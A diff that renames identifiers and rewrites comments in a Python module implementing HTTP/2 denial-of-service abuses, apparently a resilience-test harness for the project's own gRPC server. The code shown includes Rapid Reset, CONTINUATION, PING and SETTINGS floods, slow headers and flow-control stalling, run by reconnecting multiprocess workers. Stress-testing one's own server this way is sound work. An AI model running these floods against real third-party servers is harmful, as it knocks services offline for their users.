@@ -1,8 +1,8 @@
-"""What an attacker does to a server of HTTP/2, each for as long as it is let.
+"""Abuses of an HTTP/2 server, each of which continues until it is ended.
 
-An attacker that is thrown out comes back at once. It reads what it is sent, so that the server
-never waits for it, and runs in the idle class: what it costs the machine is not to be taken for
-what it costs the server.
+A disconnected attacker reconnects immediately. It reads what it is sent, so that the server never
+waits for it, and runs in the idle scheduling class, so that its own load on the machine does not
+count as the server's.
 """
 
 from __future__ import annotations
@@ -37,16 +37,16 @@ from .holders import connect
 
 READ_BYTES = 1 << 16
 FULL_SECONDS = 0.002
-STREAMS_A_CONNECTION = 100
-# What a chunk holds: enough that sending it costs little for each frame.
-FRAMES_A_CHUNK = 1_000
-# A customer with as many contacts as there may be.
+STREAMS_PER_CONNECTION = 100
+# Size of a chunk: large enough that sending costs little per frame.
+FRAMES_PER_CHUNK = 1_000
+# A customer with the maximum number of contacts.
 LARGE_CUSTOMER = "LARGE"
 
 
 @dataclass(frozen=True)
 class Target:
-    """The server, and the tokens of two clients that are let in."""
+    """The server, and the valid tokens of two clients."""
 
     address: str
     tokens: tuple[str, ...]
@@ -58,7 +58,7 @@ class Target:
 
 @dataclass
 class Count:
-    """What an attacker came to."""
+    """Counts of an attacker."""
 
     connections: int = 0
     thrown_out: int = 0
@@ -73,32 +73,32 @@ class Count:
 
 @dataclass
 class Abuse:
-    """The bytes of an abuse, as they follow one another on one connection."""
+    """The bytes that an abuse sends on one connection."""
 
-    # How many connections do it at once.
+    # Number of concurrent connections.
     connections: int = 8
-    # How long a turn of all connections takes at least.
+    # Minimum duration of a turn of all connections.
     pause_seconds: float = 0.0
-    # Whether it takes what arrives at its socket.
+    # True if the attacker reads its socket.
     reads: bool = True
     target: Target = field(default_factory=lambda: Target("", ()))
 
     def chunks(self) -> Iterator[bytes]:
-        """What is sent, until it is empty: then the connection is only held."""
+        """Yields the chunks to send; afterwards the connection is only held."""
         raise NotImplementedError
 
 
 class RapidReset(Abuse):
-    """Calls that are taken back at once, by somebody without a token."""
+    """Requests that are cancelled immediately, without a token."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.head_of_call("ResolveRecipients", self.token())
+        yield frames.HANDSHAKE
+        head = frames.rpc_header_block("ResolveRecipients", self.token())
         cancel = CANCEL.to_bytes(4, "big")
         stream = 1
         while stream < 1 << 30:
             chunk = bytearray()
-            for _ in range(self.resets_a_chunk()):
+            for _ in range(self.resets_per_chunk()):
                 chunk += frames.frame(HEADERS, END_HEADERS, stream, head)
                 chunk += self.message(stream)
                 chunk += frames.frame(RST_STREAM, 0, stream, cancel)
@@ -112,12 +112,12 @@ class RapidReset(Abuse):
         del stream
         return b""
 
-    def resets_a_chunk(self) -> int:
-        return FRAMES_A_CHUNK
+    def resets_per_chunk(self) -> int:
+        return FRAMES_PER_CHUNK
 
 
 class RapidResetOfCalls(RapidReset):
-    """Good calls that are taken back at once, so few together that no limit notices."""
+    """Valid requests that are cancelled immediately, few enough to stay below every limit."""
 
     def token(self) -> str:
         return self.target.token
@@ -129,7 +129,7 @@ class RapidResetOfCalls(RapidReset):
         body = frames.message(request.SerializeToString())
         return frames.frame(DATA, END_STREAM, stream, body)
 
-    def resets_a_chunk(self) -> int:
+    def resets_per_chunk(self) -> int:
         return 10
 
 
@@ -137,31 +137,31 @@ class ContinuationFlood(Abuse):
     """A header block that never ends."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING + frames.frame(HEADERS, 0, 1, frames.head_of_call("GetCustomer"))
+        yield frames.HANDSHAKE + frames.frame(HEADERS, 0, 1, frames.rpc_header_block("GetCustomer"))
         more = frames.frame(CONTINUATION, 0, 1, frames.header("x", "y"))
         while True:
-            yield more * FRAMES_A_CHUNK
+            yield more * FRAMES_PER_CHUNK
 
 
 class EmptyData(Abuse):
-    """A stream of somebody with a token, with frames that hold nothing."""
+    """A stream with a valid token and empty DATA frames."""
 
     def chunks(self) -> Iterator[bytes]:
-        head = frames.head_of_call("StreamRecipients", self.target.token)
-        yield frames.GREETING + frames.frame(HEADERS, END_HEADERS, 1, head)
+        head = frames.rpc_header_block("StreamRecipients", self.target.token)
+        yield frames.HANDSHAKE + frames.frame(HEADERS, END_HEADERS, 1, head)
         while True:
-            yield frames.frame(DATA, 0, 1) * FRAMES_A_CHUNK
+            yield frames.frame(DATA, 0, 1) * FRAMES_PER_CHUNK
 
 
 class MalformedHeaders(Abuse):
-    """Streams whose headers no request may have."""
+    """Streams with headers that no request may have."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.head_of_call("GetCustomer") + frames.header("UPPER", "case")
+        yield frames.HANDSHAKE
+        head = frames.rpc_header_block("GetCustomer") + frames.header("UPPER", "case")
         stream = 1
         while stream < 1 << 30:
-            last = stream + 2 * FRAMES_A_CHUNK
+            last = stream + 2 * FRAMES_PER_CHUNK
             yield b"".join(
                 frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                 for number in range(stream, last, 2)
@@ -170,47 +170,47 @@ class MalformedHeaders(Abuse):
 
 
 class Silence(Abuse):
-    """Connections that never greet."""
+    """Connections without a handshake."""
 
     def chunks(self) -> Iterator[bytes]:
         return iter(())
 
 
 class SlowHeaders(Abuse):
-    """Headers a byte at a time."""
+    """Headers sent one byte at a time."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.frame(HEADERS, END_HEADERS, 1, frames.head_of_call("GetCustomer") * 50)
+        yield frames.HANDSHAKE
+        head = frames.frame(HEADERS, END_HEADERS, 1, frames.rpc_header_block("GetCustomer") * 50)
         for byte in head:
             yield bytes([byte])
 
 
 class PingFlood(Abuse):
-    """Pings, each of which wants an answer."""
+    """Pings, each of which requires an acknowledgement."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
+        yield frames.HANDSHAKE
         while True:
-            yield frames.frame(PING, 0, 0, b"12345678") * FRAMES_A_CHUNK
+            yield frames.frame(PING, 0, 0, b"12345678") * FRAMES_PER_CHUNK
 
 
 class SettingsFlood(Abuse):
-    """Settings, each of which wants an answer and touches every stream."""
+    """SETTINGS frames, each of which requires an acknowledgement and affects every stream."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
+        yield frames.HANDSHAKE
         changes = [frames.settings(initial_window_size=size) for size in (65_535, 1_000)]
         while True:
-            yield b"".join(changes) * (FRAMES_A_CHUNK // 2)
+            yield b"".join(changes) * (FRAMES_PER_CHUNK // 2)
 
 
 @dataclass
 class Unread(Abuse):
-    """Responses to a client with a token, which are asked for and never taken."""
+    """Responses to a client with a token that are requested and never read."""
 
     rpc: str = "StreamRecipients"
-    # What each stream may be sent. The connection's own window is wide, so that every stream stalls by
+    # The window of each stream. The connection's own window is wide, so that every stream stalls by
     # itself.
     window: int = 0
 
@@ -218,8 +218,8 @@ class Unread(Abuse):
         widen = frames.frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
         yield frames.PREFACE + frames.settings(initial_window_size=self.window) + widen
         body = frames.message(self.request())
-        head = frames.head_of_call(self.rpc, self.target.token)
-        for index in range(STREAMS_A_CONNECTION):
+        head = frames.rpc_header_block(self.rpc, self.target.token)
+        for index in range(STREAMS_PER_CONNECTION):
             stream = 2 * index + 1
             yield frames.frame(HEADERS, END_HEADERS, stream, head) + frames.frame(
                 DATA, END_STREAM, stream, body
@@ -242,11 +242,11 @@ class UnreadRejections(Abuse):
     """Requests without a token, whose rejections stay in the socket."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.head_of_call("GetCustomer")
+        yield frames.HANDSHAKE
+        head = frames.rpc_header_block("GetCustomer")
         stream = 1
         while stream < 1 << 30:
-            last = stream + 2 * STREAMS_A_CONNECTION
+            last = stream + 2 * STREAMS_PER_CONNECTION
             yield b"".join(
                 frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                 for number in range(stream, last, 2)
@@ -261,40 +261,40 @@ class OpenRpcs(Abuse):
     path: str = "/grpc.health.v1.Health/Watch"
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.head_of(self.path)
-        for index in range(STREAMS_A_CONNECTION):
-            # A reflection stream waits for a request, a watch has an empty one.
+        yield frames.HANDSHAKE
+        head = frames.header_block(self.path)
+        for index in range(STREAMS_PER_CONNECTION):
+            # A reflection stream waits for a request, a health watch has an empty one.
             message = frames.frame(DATA, 0, 2 * index + 1, frames.message(b""))
             body = message if "Health" in self.path else b""
             yield frames.frame(HEADERS, END_HEADERS, 2 * index + 1, head) + body
 
 
 class Idle(Abuse):
-    """Connections that shake hands and then do nothing."""
+    """Connections that are idle after the handshake."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
+        yield frames.HANDSHAKE
 
 
 class UnfinishedCalls(Abuse):
-    """Calls of somebody with a token that never send their message; each is made anew."""
+    """Requests with a token that never send their message; each is repeated when it ends."""
 
     def chunks(self) -> Iterator[bytes]:
-        yield frames.GREETING
-        head = frames.head_of_call("ResolveRecipients", self.target.token)
+        yield frames.HANDSHAKE
+        head = frames.rpc_header_block("ResolveRecipients", self.target.token)
         stream = 1
         while True:
             chunk = b"".join(
                 frames.frame(HEADERS, END_HEADERS, number, head)
-                for number in range(stream, stream + 2 * STREAMS_A_CONNECTION, 2)
+                for number in range(stream, stream + 2 * STREAMS_PER_CONNECTION, 2)
             )
-            stream += 2 * STREAMS_A_CONNECTION
+            stream += 2 * STREAMS_PER_CONNECTION
             yield chunk
 
 
 class Attack:
-    """Processes that do it until they are left."""
+    """Processes that carry out an abuse until the context ends."""
 
     def __init__(self, abuse: Abuse) -> None:
         context = multiprocessing.get_context("spawn")
@@ -325,14 +325,14 @@ class Attack:
 
 
 def attack(abuse: Abuse, stop: Event, counts: Queue[Count]) -> None:
-    """Keeps all connections of an abuse busy, in one thread each at most 16."""
+    """Keeps all connections of an abuse busy, in at most 16 threads."""
     with contextlib.suppress(OSError):
         os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
     threads = min(abuse.connections, 16)
     shares = [Count() for _ in range(threads)]
     workers = [
         threading.Thread(
-            target=keep_on, args=(abuse, len(range(index, abuse.connections, threads)), stop, share)
+            target=run_connections, args=(abuse, len(range(index, abuse.connections, threads)), stop, share)
         )
         for index, share in enumerate(shares)
     ]
@@ -346,8 +346,8 @@ def attack(abuse: Abuse, stop: Event, counts: Queue[Count]) -> None:
     counts.put(whole)
 
 
-def keep_on(abuse: Abuse, connections: int, stop: Event, count: Count) -> None:
-    """Takes turns with its connections, and opens those anew that were closed."""
+def run_connections(abuse: Abuse, connections: int, stop: Event, count: Count) -> None:
+    """Rotates through its connections, and reopens those that were closed."""
     lines: list[Line | None] = [None] * connections
     while not stop.is_set():
         begun = time.monotonic()
@@ -358,11 +358,11 @@ def keep_on(abuse: Abuse, connections: int, stop: Event, count: Count) -> None:
                 with contextlib.suppress(OSError):
                     lines[index] = Line(abuse)
                     count.connections += 1
-            elif not line.go_on(count):
+            elif not line.step(count):
                 line.close()
                 lines[index] = None
                 count.thrown_out += 1
-        # Nothing to send in this turn, or a pause that was asked for.
+        # Nothing to send in this turn, or a requested pause.
         idle = all(line is None or line.is_done for line in lines)
         pause = max(abuse.pause_seconds - (time.monotonic() - begun), 0.1 if idle else 0)
         if pause:
@@ -386,8 +386,8 @@ class Line:
     def close(self) -> None:
         self._connection.close()
 
-    def go_on(self, count: Count) -> bool:
-        """Sends a chunk and takes what came; whether the connection is still there."""
+    def step(self, count: Count) -> bool:
+        """Sends a chunk and reads; returns true while the connection is open."""
         try:
             if not self._rest and not self.is_done:
                 self._rest = next(self._chunks, b"")
@@ -402,7 +402,7 @@ class Line:
         try:
             sent = self._connection.send(self._rest)
         except BlockingIOError:
-            # The server is behind.
+            # The server does not keep up.
             time.sleep(FULL_SECONDS)
             return
         self._rest = self._rest[sent:]
